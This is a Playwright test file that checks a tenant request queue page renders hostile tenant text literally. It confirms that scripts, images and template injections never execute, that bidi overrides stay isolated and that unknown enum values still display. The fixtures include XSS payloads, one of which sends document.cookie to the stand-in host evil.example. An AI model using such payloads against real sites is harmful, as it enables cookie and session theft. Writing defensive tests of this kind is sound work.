import { expect, test } from './fixtures';
import { open, rows, waitForQueue } from './queue-page';

test.describe('hostile tenant text (hostile scenario)', () => {
  test.use({ previewArgs: ['--scenario', 'hostile'] });

  test('markup in names and justifications is shown literally and never runs', async ({ app }) => {
    const dialogs: string[] = [];
    app.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const requests: string[] = [];
    app.on('request', (r) => requests.push(r.url()));
    await waitForQueue(app);

    // Names appear as text, verbatim.
    await expect(rows(app).filter({ hasText: "<script>alert('pwned')</script>" })).toHaveCount(1);
    await expect(rows(app).filter({ hasText: '<img src=x onerror=alert(1)>' })).toHaveCount(1);
    await expect(rows(app).filter({ hasText: "{{constructor.constructor('alert(1)')()}}" })).toHaveCount(1);

    const { detail } = await open(app, "<script>alert('pwned')</script>");
    await expect(detail.getByTestId('detail-justification')).toHaveText("<script>document.location='https://evil.example/?c='+document.cookie</script>");
    await open(app, '<img src=x onerror=alert(1)>');
    await expect(app.getByTestId('detail-justification')).toContainText('<img src=x onerror="fetch(\'https://evil.example\')">');

    // Nothing the tenant wrote became an element, ran, or fetched anything.
    const injected = await app.evaluate(() => ({
      scripts: [...document.querySelectorAll('script')].filter((s) => !s.src).length,
      imgs: document.querySelectorAll('img').length,
      bold: document.querySelectorAll('#app b').length,
    }));
    expect(injected).toEqual({ scripts: 0, imgs: 0, bold: 0 });
    expect(dialogs).toEqual([]);
    expect(requests.filter((u) => u.includes('evil.example') || u.endsWith('/x'))).toEqual([]);
  });

  test('bidi overrides stay inside the name they came with', async ({ app }) => {
    await waitForQueue(app);
    const r = rows(app).filter({ hasText: 'Invoice' }).first();
    // Each tenant string sits in its own <bdi>, so an override cannot flip the words after it.
    const isolated = await r.locator('bdi').evaluateAll((els) => els.every((e) => getComputedStyle(e).unicodeBidi === 'isolate'));
    expect(isolated).toBe(true);
    await expect(r).toContainText('Activation');
  });

  test('unknown enum values are shown raw, not dropped', async ({ app }) => {
    await waitForQueue(app);
    const count = await rows(app).count();
    expect(count).toBeGreaterThan(0);
    // Every row renders the three lines even for unknown request types or stage statuses.
    for (let i = 0; i < count; i += 1) await expect(rows(app).nth(i).getByTestId('time-left')).toBeVisible();
  });
});
